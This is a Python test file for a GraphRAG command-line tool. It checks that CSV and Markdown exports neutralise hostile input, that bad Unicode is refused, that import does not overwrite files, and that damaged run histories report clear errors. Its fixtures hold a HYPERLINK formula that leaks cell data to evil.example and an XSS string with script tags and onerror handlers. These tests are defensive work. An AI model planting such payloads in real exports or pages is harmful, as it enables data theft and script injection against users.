"""Issue 27: what the command line reads and writes is safe: text that is not Unicode is bad
input, a run history that is damaged reads one clear way, CSV and Markdown exports run nothing
when opened, ``import`` never overwrites what it did not write."""

from __future__ import annotations

from pathlib import Path

import pytest

from graphrag_cli.context import EXIT_USAGE
from graphrag_core.errors import EvaluationError, RequestValidationError
from graphrag_core.evaluation.questions import parse_questions_jsonl
from graphrag_core.request import GlobalSearchRequest

from .cli_support import QUESTION, run_cli

LONE = "\udcff"  # what a non-UTF-8 byte becomes in argv (surrogateescape), or "\udcff" in JSON


# -- lone surrogates ------------------------------------------------------------------------------


def test_a_question_with_a_lone_surrogate_is_refused_with_a_clear_message() -> None:
    with pytest.raises(RequestValidationError, match=r"not valid Unicode.*U\+DCFF.*character 9"):
        GlobalSearchRequest(query=f"What is {LONE} here?")


def test_query_with_a_lone_surrogate_exits_2_without_a_traceback(capsys, index_dir: Path, tmp_path: Path) -> None:
    code, _out, err = run_cli(capsys, "query", index_dir, f"What is {LONE}?", "--store", tmp_path / "runs.sqlite3", "--cache", tmp_path / "c.sqlite3")
    assert code == EXIT_USAGE, err
    assert "not valid Unicode" in err and "Traceback" not in err


def test_a_question_set_with_a_lone_surrogate_names_its_file_and_line() -> None:
    text = '{"question": "Fine?"}\n{"question": "What is \\udcff here?"}\n'
    with pytest.raises(EvaluationError, match=r"q\.jsonl:2: .*not valid Unicode"):
        parse_questions_jsonl(text, "q.jsonl")


def test_eval_with_a_lone_surrogate_in_its_questions_exits_2(capsys, index_dir: Path, tmp_path: Path) -> None:
    questions = tmp_path / "q.jsonl"
    questions.write_text('{"question": "What is \\udcff here?"}\n', encoding="utf-8")
    code, _out, err = run_cli(
        capsys, "eval", questions, "--index", index_dir, "--condition", "A:level=0", "--condition", "B:level=1",
        "--judge", "offline", "--model", "offline", "--eval-db", tmp_path / "e.sqlite3", "--no-store", "--no-cache",
    )
    assert code == EXIT_USAGE, err
    assert "q.jsonl:1" in err and "not valid Unicode" in err and "Traceback" not in err


def test_a_condition_name_with_a_lone_surrogate_is_bad_input(capsys, index_dir: Path, tmp_path: Path) -> None:
    questions = tmp_path / "q.jsonl"
    questions.write_text(f'{{"question": "{QUESTION}"}}\n', encoding="utf-8")
    code, _out, err = run_cli(
        capsys, "eval", questions, "--index", index_dir, "--condition", f"A{LONE}:level=0", "--condition", "B:level=1",
        "--judge", "offline", "--model", "offline", "--eval-db", tmp_path / "e.sqlite3", "--no-store", "--no-cache",
    )
    assert code == EXIT_USAGE, err
    assert "not valid Unicode" in err and "Traceback" not in err


# -- CSV formula injection ------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would run as a formula (numbers are data)."""
    import csv

    found = []
    for row in csv.reader(path.open(encoding="utf-8", newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture
def hostile_index_dir(tmp_path: Path) -> Path:
    """The town index named like a formula, with a community id that is one."""
    from graphrag_core.index import save_index
    from graphrag_core.models import Community, Index

    index = Index(
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        communities=[
            Community(id="r", level=0, title="Root", summary="Everything about the town and its valley."),
            Community(id="@SUM(1+1)", level=1, parent_id="r", title="+Mill", summary="The mill employs most people."),
            Community(id="=1+2", level=1, parent_id="r", title="-Beta", summary="The river floods every spring."),
        ],
    )
    folder = tmp_path / "hostile"
    save_index(index, folder)
    return folder


def test_every_cell_of_a_sweep_csv_is_data_not_a_formula(capsys, hostile_index_dir: Path, tmp_path: Path) -> None:
    from graphrag_core.llm.scripted import ScriptedChatModel

    def reply(request):  # type: ignore[no-untyped-def]
        if request.purpose == "map":
            return '{"answer": "-2+3 is the mill [Communities: @SUM(1+1)]", "usefulness": 70}'
        return '{"answer": "=1+1 the mill [Communities: @SUM(1+1)]"}'

    out = tmp_path / "sweep.csv"
    code, _, err = run_cli(
        capsys, "sweep", hostile_index_dir, QUESTION, "--levels", "leaf,0", "--seeds", "1", "--map-budgets", "8000,5",
        "--out", out, "--no-store", "--no-cache", model=ScriptedChatModel(reply),
    )
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    assert "@SUM(1+1)" in text and "=1+2" in text  # the values are there, as text
    assert formula_cells(out) == []


def test_every_cell_of_the_evaluation_csvs_is_data_not_a_formula(capsys, hostile_index_dir: Path, tmp_path: Path) -> None:
    questions = tmp_path / "q.jsonl"
    questions.write_text('{"id": "@SUM(1)", "question": "=What shapes the town?"}\n', encoding="utf-8")
    out = tmp_path / "report.md"
    code, _, err = run_cli(
        capsys, "eval", questions, "--index", hostile_index_dir, "--condition", "=X:level=0", "--condition", "+Y:level=1",
        "--judge", "offline", "--model", "offline", "--eval-db", tmp_path / "e.sqlite3", "--no-store", "--no-cache", "--out", out,
    )
    assert code == 0, err
    tables = sorted(tmp_path.glob("report.*.csv"))
    assert [t.name for t in tables] == ["report.choice.csv", "report.costs.csv", "report.judgments.csv", "report.support.csv", "report.win-rates.csv"]
    assert "=X" in (tmp_path / "report.win-rates.csv").read_text(encoding="utf-8")
    assert "=X" in (tmp_path / "report.support.csv").read_text(encoding="utf-8")
    assert "=X" in (tmp_path / "report.choice.csv").read_text(encoding="utf-8")
    for table in tables:
        assert formula_cells(table) == [], table.name


def test_the_csv_helper_neutralises_text_and_keeps_numbers() -> None:
    import csv
    import io

    from graphrag_core.csv_cells import csv_text

    text = csv_text(["a", "b", "c", "d", "e", "f"], [["=1+1", "-1", -1, 2.5, "\tTAB", "plain - text"], ["@x", "+x", None, "\rCR", "", "ok"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["a", "b", "c", "d", "e", "f"]
    assert rows[1] == ["'=1+1", "'-1", "-1", "2.5", "'\tTAB", "plain - text"]
    assert rows[2] == ["'@x", "'+x", "", "'\rCR", "", "ok"]


# -- Markdown exports carry no raw HTML -----------------------------------------------------------

HOSTILE = '<img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))'


def raw_html_or_links(markdown: str) -> list[str]:
    """What a Markdown viewer would run or follow in ``markdown``: raw HTML tags, inline links
    and reference definitions."""
    import re

    return re.findall(r"<[A-Za-z/!?][^>]*>?|\]\([^)]*\)|^\s*\[[^\]]*\]:.*$", markdown, flags=re.M)


def hostile_run():  # type: ignore[no-untyped-def]
    import asyncio

    from graphrag_core.history import RunRecord
    from graphrag_core.llm.scripted import ScriptedChatModel
    from graphrag_core.search import retrieve_global

    from .factories import small_index

    def reply(request):  # type: ignore[no-untyped-def]
        if request.purpose == "map":
            if "Kludges" in request.prompt_text or "kludge" in request.prompt_text:
                return f"not json {HOSTILE}"
            return '{"answer": ' + __import__("json").dumps(f"Map says {HOSTILE} [Communities: 3]") + ', "usefulness": 80}'
        return '{"answer": ' + __import__("json").dumps(f"The answer {HOSTILE} [Communities: 3]") + "}"

    index = small_index().model_copy(update={"name": HOSTILE})
    events: list = []
    request = GlobalSearchRequest(query=f"What about {HOSTILE}?", seed=1, map_token_budget=300, map_output_reserve=50)
    asyncio.run(retrieve_global(index, request, ScriptedChatModel(reply), on_event=events.append))
    return RunRecord.from_events(events, index_name=HOSTILE, index_path=f"/tmp/{HOSTILE}", label=HOSTILE)


def test_a_run_report_escapes_raw_html_and_links_from_the_index_the_question_and_the_model() -> None:
    from graphrag_core.report import record_to_markdown

    record = hostile_run()
    assert record.figures.failed_batches >= 1  # a failure's error quotes the reply
    markdown = record_to_markdown(record)
    assert raw_html_or_links(markdown) == []
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in markdown  # the text is kept, inert
    assert "## Answer" in markdown and "| setting | value |" in markdown  # the report's own Markdown stays


def test_runs_export_markdown_writes_no_raw_html(capsys, tmp_path: Path) -> None:
    from graphrag_core.history import RunStore

    record = hostile_run()
    store = tmp_path / "runs.sqlite3"
    RunStore(store).save(record)
    out = tmp_path / "report.md"
    code, _, err = run_cli(capsys, "runs", "--store", store, "export", record.run_id, "--markdown", out)
    assert code == 0, err
    assert raw_html_or_links(out.read_text(encoding="utf-8")) == []


def test_an_evaluation_report_escapes_raw_html(tmp_path: Path) -> None:
    import asyncio

    from graphrag_core.evaluation import Condition, ExperimentSpec, run_experiment
    from graphrag_core.evaluation.questions import EvalQuestion
    from graphrag_core.evaluation.report import to_markdown
    from graphrag_core.llm.offline import OfflineChatModel

    from .factories import small_index

    spec = ExperimentSpec(
        questions=[EvalQuestion(id="<b>q1</b>", question=f"What about {HOSTILE}?", tags={"<i>kind</i>": ""})],
        conditions=[Condition.parse("<u>A</u>:level=0"), Condition.parse("B:level=1")],
        seeds=[1],
    )
    index = small_index().model_copy(update={"name": HOSTILE})
    result = asyncio.run(run_experiment(index, spec, OfflineChatModel(), OfflineChatModel()))
    result = result.model_copy(update={"index_name": HOSTILE, "index_path": f"/tmp/{HOSTILE}"})
    markdown = to_markdown(result)
    assert raw_html_or_links(markdown) == []
    assert "&lt;u&gt;A&lt;/u&gt;" in markdown and "## Win rates" in markdown


# -- import SRC DEST ------------------------------------------------------------------------------


def test_import_refuses_a_dest_that_holds_files_and_leaves_them_as_they_were(capsys, index_dir: Path, small_index_dir: Path) -> None:
    before = {p.name: p.read_bytes() for p in small_index_dir.iterdir()}
    code, out, err = run_cli(capsys, "import", index_dir, small_index_dir)
    assert code == EXIT_USAGE, err
    assert "not empty" in err and "--force" in err and "Traceback" not in err and out == ""
    assert {p.name: p.read_bytes() for p in small_index_dir.iterdir()} == before


def test_import_force_replaces_the_index_files_and_nothing_else(capsys, index_dir: Path, small_index_dir: Path) -> None:
    from graphrag_core.index import load_index

    (small_index_dir / "notes.txt").write_text("mine", encoding="utf-8")
    (small_index_dir / "communities.jsonl.tmp").write_text("also mine", encoding="utf-8")
    code, out, err = run_cli(capsys, "import", index_dir, small_index_dir, "--force")
    assert code == 0, err
    assert load_index(small_index_dir).name == "tiny"
    assert (small_index_dir / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert (small_index_dir / "communities.jsonl.tmp").read_text(encoding="utf-8") == "also mine"
    assert not [p.name for p in small_index_dir.iterdir() if p.name.startswith(".")]  # no temporary file left


def test_import_writes_into_a_new_or_empty_folder(capsys, index_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for dest in (tmp_path / "empty", tmp_path / "new" / "deeper"):
        code, _, err = run_cli(capsys, "import", index_dir, dest)
        assert code == 0, err
        assert (dest / "manifest.json").is_file()


def test_import_refuses_a_dest_that_is_a_file(capsys, index_dir: Path, tmp_path: Path) -> None:
    dest = tmp_path / "a-file"
    dest.write_text("x", encoding="utf-8")
    code, _, err = run_cli(capsys, "import", index_dir, dest, "--force")
    assert code != 0 and "not a folder" in err and dest.read_text(encoding="utf-8") == "x"


# -- a damaged run history ------------------------------------------------------------------------


def damaged_history(tmp_path: Path) -> tuple[Path, str]:
    """A run history of a few runs whose middle pages were overwritten, and one run's id."""
    import sqlite3

    from graphrag_core.history import RunStore

    path = tmp_path / "damaged.sqlite3"
    store = RunStore(path)
    run_ids = []
    for seed in range(12):
        record = small_run(seed)
        store.save(record)
        run_ids.append(record.run_id)
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    page_size = connection.execute("PRAGMA page_size").fetchone()[0]
    pages = connection.execute("PRAGMA page_count").fetchone()[0]
    connection.close()
    with path.open("r+b") as handle:
        for page in range(2, pages - 1):
            handle.seek(page * page_size)
            handle.write(b"\xa5" * page_size)
    return path, run_ids[0]


DAMAGED = "the run history is damaged"


def small_run(seed: int):  # type: ignore[no-untyped-def]
    """An offline run on ``factories.small_index()`` at small budgets (several batches)."""
    import asyncio

    from graphrag_core.history import RunRecord
    from graphrag_core.llm.offline import OfflineChatModel
    from graphrag_core.search import retrieve_global

    from .factories import small_index

    events: list = []
    request = GlobalSearchRequest(query=f"What is a hacker {seed}?", seed=seed, map_token_budget=300, map_output_reserve=50)
    asyncio.run(retrieve_global(small_index(), request, OfflineChatModel(), on_event=events.append))
    return RunRecord.from_events(events, index_name="small")


@pytest.mark.parametrize(
    "argv",
    [
        ("runs", "--store", "{db}", "list"),
        ("runs", "--store", "{db}", "show", "{run}"),
        ("runs", "--store", "{db}", "show", "{run}", "--json"),
        ("runs", "--store", "{db}", "export", "{run}", "--bundle", "{tmp}/b.json"),
        ("runs", "--store", "{db}", "delete", "{run}"),
    ],
    ids=["list", "show", "show-json", "export", "delete"],
)
def test_every_runs_command_reads_a_damaged_history_one_clear_way(capsys, tmp_path: Path, argv: tuple[str, ...]) -> None:
    db, run_id = damaged_history(tmp_path)
    code, _out, err = run_cli(capsys, *(a.format(db=db, run=run_id, tmp=tmp_path) for a in argv))
    assert code == EXIT_USAGE, err
    assert DAMAGED in err and str(db) in err and "Traceback" not in err


def test_query_on_a_damaged_history_answers_and_says_the_run_was_not_recorded_the_same_way(capsys, tmp_path: Path) -> None:
    db, _ = damaged_history(tmp_path)
    code, out, err = run_cli(capsys, "query", "jargon", "What is a hacker?", "--level", "0", "--seed", "1", "--store", db, "--no-cache")
    assert code == 0, err
    assert out.strip() and "Traceback" not in err
    assert DAMAGED in err and "not recorded" in err


def test_a_run_whose_stored_events_are_damaged_is_named(capsys, tmp_path: Path) -> None:
    import sqlite3

    from graphrag_core.history import RunStore, StoreError

    db = tmp_path / "runs.sqlite3"
    record = small_run(1)
    RunStore(db).save(record)
    with sqlite3.connect(db) as connection:
        connection.execute("UPDATE run_events SET event_json = '{\"kind\": \"map_batch_started\", \"oops' WHERE seq = 3")
    with pytest.raises(StoreError, match=rf"run {record.run_id} .*damaged"):
        RunStore(db).get(record.run_id)
    code, _out, err = run_cli(capsys, "runs", "--store", db, "show", record.run_id)
    assert code == EXIT_USAGE and DAMAGED in err and "Traceback" not in err


# -- a UTF-8 byte order mark ----------------------------------------------------------------------


def test_a_native_index_whose_files_start_with_a_bom_loads(small_index_dir: Path) -> None:
    from graphrag_core.index import load_index

    from .factories import small_index

    for path in small_index_dir.iterdir():
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert load_index(small_index_dir).model_dump() == small_index().model_dump()


def test_a_sweep_into_a_damaged_history_says_its_runs_were_not_recorded_the_same_way(capsys, tmp_path: Path) -> None:
    db, _ = damaged_history(tmp_path)
    code, out, err = run_cli(capsys, "sweep", "jargon", "What is a hacker?", "--levels", "0", "--seeds", "1", "--store", db, "--no-cache", "-q")
    assert code == 0, err
    assert out.startswith("point,level") and DAMAGED in err and "not recorded" in err and "Traceback" not in err
